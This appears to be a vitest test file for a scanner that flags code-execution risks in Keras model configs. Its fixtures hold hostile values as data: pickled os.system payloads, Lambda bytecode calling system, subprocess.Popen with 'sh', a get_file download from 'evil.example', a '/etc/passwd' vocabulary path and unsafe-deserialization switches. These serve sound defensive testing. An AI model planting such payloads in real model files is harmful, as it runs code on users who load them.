import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { testScanContext } from "../../../test/helpers/scan-context.js";
import {
  codecsBase64,
  k2,
  k2Dense,
  k2Input,
  k2LambdaBytecode,
  k2MobileNetLike,
  k2Sequential,
  k2TrainingConfig,
  k3,
  k3Bidirectional,
  k3CompileConfig,
  k3Dense,
  k3Function,
  k3FunctionalModel,
  k3LambdaBytecode,
  k3LambdaFunction,
  k3Lstm,
  k3Sequential,
  k3TimeDistributed,
  PY311_LAMBDA_OS_SYSTEM,
} from "../../../test/writers/keras.js";
import { pickle } from "../../../test/writers/pickle.js";
import type { ScanContext } from "../context.js";
import type { Finding } from "../types.js";
import { checkKerasConfig, isKerasConfig, scanKerasConfig } from "./keras-view.js";

function check(config: unknown, allow: ScanContext["allow"] = []): Finding[] {
  const ctx = testScanContext("model.keras", { allow });
  checkKerasConfig(ctx, config, "config.json");
  return ctx.findings;
}

const rules = (findings: Finding[]): string[] => findings.map((f) => `${f.severity} ${f.ruleId}`).sort();

describe("isKerasConfig", () => {
  it("recognizes Keras 3, Keras 2 and keras_metadata layer configs", () => {
    expect(isKerasConfig(k3FunctionalModel())).toBe(true);
    expect(isKerasConfig(k2Sequential([k2Dense("d", 1)]))).toBe(true);
    expect(
      isKerasConfig({
        name: "lambda",
        class_name: "Lambda",
        config: { name: "lambda" },
        shared_object_id: 3,
      }),
    ).toBe(true);
  });

  it("rejects other JSON", () => {
    for (const json of [
      null,
      [],
      "Sequential",
      { architectures: ["BertModel"], model_type: "bert" },
      { class_name: "Sequential" },
      { class_name: 3, config: {} },
      { class_name: "X", config: "text" },
    ])
      expect(isKerasConfig(json), JSON.stringify(json)).toBe(false);
  });
});

describe("checkKerasConfig: configs real models save", () => {
  it("passes a Keras 3 Functional model with a nested Sequential, TimeDistributed and Bidirectional LSTM", () => {
    expect(check(k3FunctionalModel())).toEqual([]);
  });

  it("passes Keras 2 configs: Sequential, MobileNet-style Functional, training config", () => {
    expect(check(k2Sequential([k2Input("in", [null, 4]), k2Dense("d", 2)]))).toEqual([]);
    expect(check(k2MobileNetLike())).toEqual([]);
    expect(check(k2TrainingConfig())).toEqual([]);
  });

  it("passes Keras' own functions (losses, activations) and official libraries' classes", () => {
    expect(check(k3CompileConfig(k3Function("keras.losses", "mean_squared_error")))).toEqual([]);
    expect(check(k3("keras_hub.src.models.bert.bert_backbone", "BertBackbone", { name: "b" }))).toEqual([]);
    expect(check(k3("tf_keras.layers", "Dense", { name: "d" }))).toEqual([]);
  });
});

describe("checkKerasConfig: code a config makes Keras run", () => {
  it("Keras 3 __lambda__ bytecode three levels deep, inside a TimeDistributed in a nested model", () => {
    const findings = check(k3FunctionalModel({ timeDistributed: k3LambdaBytecode("sneaky") }));
    expect(rules(findings)).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
    const [f] = findings;
    expect(f!.evidence).toMatchObject({
      layer: "sneaky",
      names: ["__import__", "system"],
      strings: ["os", "id"],
      path: "config.layers[1].config.layers[1].config.layer.config.function",
    });
    expect(f!.message).toContain("names: __import__, system");
  });

  it("Keras 2 Lambda bytecode (func_dump's list), also in a Bidirectional's layer", () => {
    expect(rules(check(k2Sequential([k2LambdaBytecode("l")])))).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
    const wrapped = k2("Bidirectional", { name: "bi", layer: k2LambdaBytecode("inner") });
    expect(check(k2Sequential([wrapped]))[0]!.evidence.layer).toBe("inner");
  });

  it("Keras 2 bytecode given as a plain string and in output_shape", () => {
    const lam = k2LambdaBytecode("l");
    const config = lam.config as Record<string, unknown>;
    config.function = codecsBase64(PY311_LAMBDA_OS_SYSTEM);
    config.output_shape = [PY311_LAMBDA_OS_SYSTEM, null, null];
    config.output_shape_type = "lambda";
    expect(rules(check(lam))).toEqual(["critical KERAS_LAMBDA_BYTECODE", "critical KERAS_LAMBDA_BYTECODE"]);
  });

  it("a keras_metadata.pb node (Keras 2 SavedModel) with a Lambda", () => {
    const node = {
      name: "lambda",
      trainable: true,
      expects_training_arg: false,
      dtype: "float32",
      batch_input_shape: null,
      stateful: false,
      must_restore_from_config: false,
      class_name: "Lambda",
      config: (k2LambdaBytecode("lambda") as { config: unknown }).config,
      shared_object_id: 3,
      build_input_shape: { class_name: "TensorShape", items: [null, 4] },
    };
    expect(isKerasConfig(node)).toBe(true);
    expect(rules(check(node))).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
  });

  it("a Lambda calling a named function is high; a dangerous one is critical as well", () => {
    expect(rules(check(k3LambdaFunction("l", "keras.ops", "relu")))).toEqual(["high KERAS_LAMBDA"]);
    expect(rules(check(k3LambdaFunction("l", "os", "system")))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
      "high KERAS_LAMBDA",
    ]);
    // Keras 2: function_type "function" resolves the name in an imported module.
    const k2fn = k2("Lambda", { name: "l", function: "system", function_type: "function", module: "os" });
    expect(rules(check(k2fn))).toEqual(["critical KERAS_DANGEROUS_FUNCTION", "high KERAS_LAMBDA"]);
  });

  it("safe_mode bypasses: enable_unsafe_deserialization, load_model(safe_mode=False), get_file", () => {
    const cve9906 = check(k3LambdaFunction("off", "keras.config", "enable_unsafe_deserialization"));
    expect(cve9906.find((f) => f.ruleId === "KERAS_DANGEROUS_FUNCTION")?.evidence.advisory).toBe(
      "CVE-2025-9906",
    );
    const reload = check(k3LambdaFunction("l", "keras.models", "load_model", { safe_mode: false }));
    expect(rules(reload)).toContain("critical KERAS_DANGEROUS_FUNCTION");
    const download = check(
      k3LambdaFunction("l", "keras.utils", "get_file", { origin: "http://evil.example/x" }),
    );
    expect(download.find((f) => f.ruleId === "KERAS_DANGEROUS_FUNCTION")?.evidence.advisory).toBe(
      "CVE-2025-8747",
    );
    const state = check(k3Function("keras.src.backend.common.global_state", "set_global_attribute"));
    expect(rules(state)).toEqual(["critical KERAS_DANGEROUS_FUNCTION"]);
    expect(rules(check(k3Function("keras.src.saving.saving_lib", "anything")))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
    ]);
  });

  it("modules outside Keras (CVE-2025-1550): builtins.exec critical, subprocess.Popen critical, own code high", () => {
    expect(rules(check(k3CompileConfig(k3Function("builtins", "exec"))))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
    ]);
    expect(rules(check(k3("subprocess", "Popen", { args: ["sh"] })))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
    ]);
    const ctx = testScanContext("model.keras");
    checkKerasConfig(
      ctx,
      k3("my_project.layers", "Attention", { name: "a" }, { registered_name: "MyProject>Attention" }),
      "config.json",
    );
    expect(rules(ctx.findings)).toEqual(["high KERAS_UNSAFE_MODULE"]);
    expect(ctx.facts.remoteCode.map((r) => r.kind)).toEqual(["custom-module"]);
  });

  it("custom objects in initializers, regularizers and metrics are walked too", () => {
    const dense = k3Dense("d", 2);
    (dense.config as Record<string, unknown>).kernel_regularizer = k3("posix", "system", "id");
    expect(rules(check(k3Sequential("s", [dense], [null, 2])))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
    ]);
    const lstm = k3Lstm("lstm", 4);
    (lstm.config as Record<string, unknown>).recurrent_initializer = k3("evil_pkg.init", "Init", {});
    expect(rules(check(k3Bidirectional("bi", lstm)))).toEqual([
      "high KERAS_UNSAFE_MODULE",
      "high KERAS_UNSAFE_MODULE",
    ]);
  });

  it("the allow-list lets a team's own module through, never a dangerous one", () => {
    const own = k3("my_project.layers", "Attention", { name: "a" });
    expect(check(own, [{ module: "my_project.*", names: "*" }])).toEqual([]);
    expect(rules(check(k3Function("os", "system"), [{ module: "os", names: "*" }]))).toEqual([
      "critical KERAS_DANGEROUS_FUNCTION",
    ]);
  });

  it("TFSMLayer loads a SavedModel from a path", () => {
    const f = check(
      k3("keras.layers", "TFSMLayer", { name: "t", filepath: "/models/sm", call_endpoint: "serve" }),
    );
    expect(rules(f)).toEqual(["high KERAS_TFSM_LAYER"]);
    expect(f[0]!.evidence.filepath).toBe("/models/sm");
  });

  it("a lookup layer reading its vocabulary from a path (CVE-2025-12058); an inline list is fine", () => {
    const fromFile = check(k3("keras.layers", "StringLookup", { name: "lookup", vocabulary: "/etc/passwd" }));
    expect(rules(fromFile)).toEqual(["high KERAS_EXTERNAL_FILE"]);
    expect(fromFile[0]!.evidence).toMatchObject({ vocabulary: "/etc/passwd", advisory: "CVE-2025-12058" });
    expect(check(k3("keras.layers", "StringLookup", { name: "lookup", vocabulary: ["a", "b"] }))).toEqual([]);
  });

  it("TorchModuleWrapper: reported, and scanKerasConfig scans its pickled module", async () => {
    const payload = pickle()
      .proto(2)
      .reduceGlobal("os", "system", (w) => w.binunicode("echo pwned"))
      .stop()
      .bytes();
    const base64 = k3("keras.layers", "TorchModuleWrapper", {
      name: "torch",
      module: Buffer.from(payload).toString("base64"),
    });
    const latin1 = k3("keras.layers", "TorchModuleWrapper", {
      name: "torch",
      module: { class_name: "__bytes__", config: { value: Buffer.from(payload).toString("latin1") } },
    });
    for (const config of [base64, latin1]) {
      expect(rules(check(config))).toEqual(["high KERAS_TORCH_MODULE"]);
      const ctx = testScanContext("model.keras");
      await scanKerasConfig(ctx, config, "config.json", 1);
      const nested = ctx.findings.find((f) => f.severity === "critical");
      expect(nested?.location).toMatch(/^config\.json#config\.module@/);
      expect(JSON.stringify(nested?.evidence)).toContain("os.system");
    }
  });

  it("a config nested past the depth bound is unverifiable, not clean", () => {
    let node: unknown = k3LambdaBytecode("deep");
    for (let i = 0; i < 300; i++) node = k3TimeDistributed(`t${i}`, node as Record<string, unknown>);
    expect(rules(check(node))).toEqual(["medium KERAS_CONFIG_UNVERIFIABLE"]);
  });

  it("undecodable bytecode is still critical", () => {
    const lam = k3LambdaBytecode("l");
    (lam.config as { function: { config: { code: string } } }).function.config.code = "!!not base64!!";
    const [f] = check(lam);
    expect(f?.severity).toBe("critical");
    expect(f?.evidence.bytecodeBytes).toBeNull();
  });

  it("never throws on arbitrary JSON, and reports only documented rules", () => {
    const documented = new Set([
      "KERAS_LAMBDA_BYTECODE",
      "KERAS_LAMBDA",
      "KERAS_DANGEROUS_FUNCTION",
      "KERAS_UNSAFE_MODULE",
      "KERAS_TFSM_LAYER",
      "KERAS_TORCH_MODULE",
      "KERAS_EXTERNAL_FILE",
      "KERAS_CONFIG_UNVERIFIABLE",
    ]);
    const keyed = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: "small" },
        fc.jsonValue(),
        fc.record({
          class_name: fc.constantFrom(
            "Lambda",
            "__lambda__",
            "function",
            "TorchModuleWrapper",
            "Dense",
            "TFSMLayer",
          ),
          module: fc.constantFrom("keras.layers", "os", "keras.utils", "__main__", "keras"),
          config: fc.oneof(fc.string(), tie("node")),
          function_type: fc.constantFrom("lambda", "function", undefined),
          function: fc.oneof(fc.string(), fc.array(fc.string(), { maxLength: 3 }), tie("node")),
        }),
        fc.array(tie("node"), { maxLength: 4 }),
      ),
    }));
    fc.assert(
      fc.property(keyed.node, (json) => {
        isKerasConfig(json);
        for (const f of check(json)) expect(documented.has(f.ruleId), f.ruleId).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
